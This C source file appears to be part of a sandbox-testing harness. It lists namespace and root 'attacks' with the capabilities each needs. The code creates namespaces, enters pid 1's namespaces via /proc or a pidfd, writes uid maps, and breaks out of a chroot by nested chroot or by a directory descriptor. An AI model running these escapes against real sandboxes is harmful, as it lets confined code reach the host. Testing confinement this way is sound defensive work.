// SPDX-License-Identifier: MIT
/* Namespaces and roots: new ones, other processes' ones, and ways out of one's own root. */
#include "attack.h"

#include <errno.h>
#include <fcntl.h>
#include <linux/sched.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

#ifndef CLONE_NEWTIME
#define CLONE_NEWTIME 0x00000080
#endif

/* Of Linux 6.12: the next mount namespace of the host that the caller may see. */
#define NEXT_MOUNT_NAMESPACE _IOR(0xb7, 11, char[16])

static int new_user(const struct target *target) {
  (void)target;
  return unshare(CLONE_NEWUSER);
}
static int new_mount(const struct target *target) {
  (void)target;
  return unshare(CLONE_NEWNS);
}
static int new_pid(const struct target *target) {
  (void)target;
  return unshare(CLONE_NEWPID);
}
static int new_net(const struct target *target) {
  (void)target;
  return unshare(CLONE_NEWNET);
}
static int new_uts(const struct target *target) {
  (void)target;
  return unshare(CLONE_NEWUTS);
}
static int new_ipc(const struct target *target) {
  (void)target;
  return unshare(CLONE_NEWIPC);
}
static int new_cgroup(const struct target *target) {
  (void)target;
  return unshare(CLONE_NEWCGROUP);
}
static int new_time(const struct target *target) {
  (void)target;
  return unshare(CLONE_NEWTIME);
}

static const int kinds[] = {CLONE_NEWUSER, CLONE_NEWNS,  CLONE_NEWPID,   CLONE_NEWNET,
                            CLONE_NEWUTS,  CLONE_NEWIPC, CLONE_NEWCGROUP};

#define KINDS (sizeof kinds / sizeof kinds[0])

/* A child that is made without an exit signal, so that the parent of this process sees none. */
static int clone_any(const struct target *target) {
  (void)target;
  for (size_t i = 0; i < KINDS; i++) {
    if (syscall(SYS_clone, kinds[i] | SIGCHLD, 0, 0, 0, 0) >= 0)
      return 0;
  }
  return -1;
}

static int clone_three(const struct target *target) {
  struct clone_args arguments = {.flags = CLONE_NEWUSER, .exit_signal = SIGCHLD};

  (void)target;
  return syscall(SYS_clone3, &arguments, sizeof arguments) >= 0 ? 0 : -1;
}

/* What a namespace of one's own is wanted for: being an administrator in code that expects one. */
static int nested_administrator(const struct target *target) {
  (void)target;
  if (unshare(CLONE_NEWUSER | CLONE_NEWNS) < 0)
    return -1;
  return mount("none", "/", "tmpfs", 0, NULL);
}

/* The namespaces of a process, by its folder in /proc. */
static int enter_by_proc(pid_t pid) {
  static const char *const names[] = {"user", "mnt", "pid", "net", "uts", "ipc", "cgroup"};

  for (size_t i = 0; i < sizeof names / sizeof names[0]; i++) {
    char path[64];
    int namespace;

    (void)snprintf(path, sizeof path, "/proc/%d/ns/%s", (int)pid, names[i]);
    namespace = open(path, O_RDONLY | O_CLOEXEC);
    if (namespace >= 0 && setns(namespace, 0) == 0)
      return 0;
  }
  return -1;
}

static int enter_owner(const struct target *target) {
  return enter_by_proc(target->victim);
}

static int enter_pid_one(const struct target *target) {
  return enter_by_proc(target->outside ? target->victim : 1);
}

static int enter_by_pidfd(const struct target *target) {
  int pidfd = (int)syscall(SYS_pidfd_open, target->outside ? target->victim : 1, 0);

  if (pidfd < 0)
    return -1;
  for (size_t i = 0; i < KINDS; i++) {
    if (setns(pidfd, kinds[i]) == 0)
      return 0;
  }
  return -1;
}

static int next_mount_namespace(const struct target *target) {
  unsigned char info[16] = {sizeof info};
  int own = open("/proc/self/ns/mnt", O_RDONLY | O_CLOEXEC);

  (void)target;
  if (own < 0)
    return -1;
  if (ioctl(own, NEXT_MOUNT_NAMESPACE, info) >= 0)
    return 0;
  if (errno == ENOTTY || errno == EINVAL)
    errno = ENOSYS; /* an older kernel */
  return -1;
}

static int write_id_map(const struct target *target) {
  static const char map[] = "0 0 1";
  int file;

  if (target->outside && unshare(CLONE_NEWUSER) < 0)
    return -1;
  file = open("/proc/self/uid_map", O_WRONLY | O_CLOEXEC);
  return file < 0 || write(file, map, sizeof map - 1) < 0 ? -1 : 0;
}

/* The way out that every book has: make a root inside the root while standing outside of it. */
static int leave_root(const struct target *target) {
  struct stat found;

  if (target->outside && (chroot(target->scratch) < 0 || chdir("/") < 0))
    return -1;
  if (mkdir("way-out", 0700) < 0 && errno != EEXIST)
    return -1;
  if (chroot("way-out") < 0)
    return -1;
  for (int i = 0; i < 64; i++) {
    if (chdir("..") < 0)
      return -1;
  }
  return chroot(".") < 0 ? -1 : stat(target->secret, &found);
}

static int leave_root_by_descriptor(const struct target *target) {
  int before = open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
  struct stat found;

  if (before < 0 || (target->outside && (chroot(target->scratch) < 0 || chdir("/") < 0)))
    return -1;
  for (int i = 0; i < 64; i++) {
    int above = openat(before, "..", O_RDONLY | O_DIRECTORY | O_CLOEXEC);

    if (above >= 0)
      before = above;
  }
  return fstatat(before, target->secret + 1, &found, 0);
}

static int change_root(const struct target *target) {
  return chroot(target->scratch);
}

static int switch_root(const struct target *target) {
  if (in_own_mounts(target) < 0 || chdir(target->scratch) < 0)
    return -1;
  if (mount("none", target->scratch, "tmpfs", 0, NULL) < 0 || chdir(target->scratch) < 0)
    return -1;
  return (int)syscall(SYS_pivot_root, ".", ".");
}

static int switch_root_alone(const struct target *target) {
  if (target->outside)
    return switch_root(target);
  return (int)syscall(SYS_pivot_root, "/", target->scratch);
}

const struct attack namespace_attacks[] = {
    ATTACK("namespaces", "make a user namespace", "", new_user),
    ATTACK("namespaces", "make a mount namespace", "CAP_SYS_ADMIN", new_mount),
    ATTACK("namespaces", "make a PID namespace", "CAP_SYS_ADMIN", new_pid),
    ATTACK("namespaces", "make a network namespace", "CAP_SYS_ADMIN", new_net),
    ATTACK("namespaces", "make a UTS namespace", "CAP_SYS_ADMIN", new_uts),
    ATTACK("namespaces", "make an IPC namespace", "CAP_SYS_ADMIN", new_ipc),
    ATTACK("namespaces", "make a cgroup namespace", "CAP_SYS_ADMIN", new_cgroup),
    ATTACK("namespaces", "make a time namespace", "CAP_SYS_ADMIN file=/proc/self/timens_offsets", new_time),
    ATTACK("namespaces", "clone into a new namespace", "", clone_any),
    ATTACK("namespaces", "clone3 into a new namespace", "", clone_three),
    ATTACK("namespaces", "be the administrator of a nested namespace", "", nested_administrator),
    ATTACK("namespaces", "enter the owner's namespaces", "CAP_SYS_ADMIN CAP_SYS_PTRACE", enter_owner),
    ATTACK("namespaces", "enter pid 1's namespaces", "CAP_SYS_ADMIN", enter_pid_one),
    ATTACK("namespaces", "enter namespaces by a pidfd", "CAP_SYS_ADMIN", enter_by_pidfd),
    ATTACK("namespaces", "walk to another mount namespace", "CAP_SYS_ADMIN linux=6.12 host-pids", next_mount_namespace),
    ATTACK("namespaces", "write its own id map", "CAP_SETUID", write_id_map),
    ATTACK("namespaces", "chroot", "CAP_SYS_CHROOT", change_root),
    ATTACK("namespaces", "break out of the root by chroot", "CAP_SYS_CHROOT", leave_root),
    ATTACK("namespaces", "break out of the root by a descriptor", "CAP_SYS_CHROOT", leave_root_by_descriptor),
    ATTACK("namespaces", "pivot_root", "CAP_SYS_ADMIN", switch_root_alone),
    {0},
};
